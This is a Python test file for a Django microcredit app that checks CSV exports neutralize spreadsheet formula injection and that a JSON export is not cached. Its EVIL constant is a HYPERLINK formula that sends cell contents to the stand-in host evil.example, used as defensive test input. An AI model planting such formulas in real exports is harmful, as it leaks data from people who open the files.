"""CSV files cannot be turned into weapons (issue #14, point 4): text that a spreadsheet would run as a
formula is neutralized in the one writer, numbers stay numbers; the JSON export is not cached."""

import csv
import io
import pathlib
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation

from microcredit.core.csv_export import csv_cell, csv_response
from microcredit.core.formatting import Money, Percent

ROOT = pathlib.Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Cercle = équipe", "Cercle = équipe"),  # only a formula's first character counts
        ("<5", "<5"),
        ("—", "—"),
        ("", ""),
    ],
)
def test_text_that_would_run_as_a_formula_is_neutralized(text, written):
    assert csv_cell(text) == written


def test_numbers_stay_numbers_negative_ones_included():
    with translation.override("fr-ca"):
        assert csv_cell(Money(Decimal("-12.50"))) == "-12,50"
        assert csv_cell(Decimal("-3.5")) == "-3,5"
        assert csv_cell(-4) == "-4"
        assert csv_cell(Percent(Decimal("-1.25"))) == "-1,3 %"  # the page's decimals


def test_the_whole_file_goes_through_the_cell_writer():
    with translation.override("en"):
        response = csv_response("x.csv", [["Circle", "Outstanding"], [EVIL, Money(Decimal("-1.00"))]])
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["Circle", "Outstanding"], ["'" + EVIL, "-1.00"]]


def test_every_csv_of_the_application_is_written_by_the_one_writer():
    """No other module writes CSV itself (a new export would skip the neutralization)."""
    writers = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if (
            relative.startswith((".venv/", "tests/", "benchmarks/"))
            or relative == "microcredit/core/csv_export.py"
        ):
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            writers.append(relative)
    assert writers == []


def test_a_circle_named_like_a_formula_comes_out_as_text_in_the_boards_csv(personas, client_for):
    from tests.loans.factories import disbursed_loan

    loan = disbursed_loan()
    loan.circle.name = EVIL
    loan.circle.save(update_fields=["name"])
    for user in (personas.board, personas.coordinator):
        response = client_for(user).get(reverse("reports:dashboard"), {"format": "csv", "table": "by_circle"})
        content = response.content.decode("utf-8-sig")
        rows = list(
            csv.reader(io.StringIO(content), delimiter=";" if user.language.startswith("fr") else ",")
        )
        assert [row[0] for row in rows if EVIL in row[0]] == ["'" + EVIL]
        assert not any(line.startswith(("=", '"=')) for line in content.splitlines())


def test_the_import_templates_go_through_the_writer(personas, client_for):
    response = client_for(personas.coordinator).get(
        reverse("imports:template", args=["entrepreneurs", "csv"])
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 2 and rows[0][0]


def test_the_json_export_is_not_stored_by_any_cache(personas, client_for):
    response = client_for(personas.entrepreneur).get(
        reverse("accounts:entrepreneur_export", args=[personas.entrepreneur.pk])
    )
    assert response["Content-Type"].startswith("application/json")
    assert "no-store" in response["Cache-Control"]
